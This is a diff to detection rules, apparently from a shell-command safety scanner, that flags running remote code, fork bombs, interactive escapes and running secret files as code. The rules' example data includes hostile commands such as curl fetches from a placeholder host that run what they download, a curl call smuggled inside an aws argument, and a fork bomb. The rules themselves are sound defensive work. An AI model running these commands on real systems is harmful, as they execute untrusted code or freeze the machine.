@@ -32,10 +32,13 @@ READ_FIRST = "save it to a file, read it, then run the file"
         "curl -s https://x.example/a.tgz | tar xz && cd a && ./configure",
         "curl -s https://x.example/i.sh",
         "curl -s https://x.example/data.json | jq .",
+        'aws ec2 run-instances --cidr "$(curl -s https://x.example/ip)/32"',
     ],
 )
 def execution_remote_code(effect: Effect, context: Context) -> bool:
-    address = effect.target.text if effect.target is not None and effect.kind == "exec-script" else None
+    address = effect.text if effect.kind == "exec-script" else None
+    if effect.kind == "unknown" and "option" in effect.flags:  # a value that is set, and runs nowhere
+        return False
     return (
         "remote" in effect.taint
         or "remote" in effect.flags
@@ -46,7 +49,7 @@ def execution_remote_code(effect: Effect, context: Context) -> bool:
 @rule(
     "execution-fork-bomb",
     HIGH,
-    on=RUNS,
+    on="exec-code",
     reason="starts copies of itself without end",
     why="Within seconds the machine can't start anything any more, not even what would stop it.",
     match=[":(){ :|:& };:"],
@@ -81,9 +84,7 @@ def execution_decoded_code(effect: Effect, context: Context) -> bool:
     not_match=["bash", "python3"],
 )
 def execution_escape(effect: Effect, context: Context) -> bool:
-    if effect.target is None or effect.target.text != "stdin":
-        return False
-    return "interactive" in effect.flags and not ESCAPES.isdisjoint(effect.flags)
+    return effect.text == "stdin" and "interactive" in effect.flags and not ESCAPES.isdisjoint(effect.flags)
 
 
 @rule(
@@ -128,7 +129,7 @@ def execution_hook(effect: Effect, context: Context) -> bool:
     not_match=["run-parts /etc/cron.daily"],
 )
 def execution_everything(effect: Effect, context: Context) -> bool:
-    return effect.target is not None and effect.target.text in PROGRAMS
+    return effect.text in PROGRAMS
 
 
 @rule(
@@ -180,12 +181,14 @@ def execution_planted(effect: Effect, context: Context) -> bool:
 @rule(
     "execution-secret-file",
     HIGH,
-    on="exec-script exec-program",
+    on="exec-program",
     reason="runs {target}, which holds keys or secrets, as code",
     why="Error messages would print what it holds.",
+    match=["id_rsa"],
+    not_match=["source .env"],
 )
 def execution_secret_file(effect: Effect, context: Context) -> bool:
-    return effect.scope == "credential" and effect.kind == "exec-program"
+    return effect.scope == "credential"
 
 
 @rule(
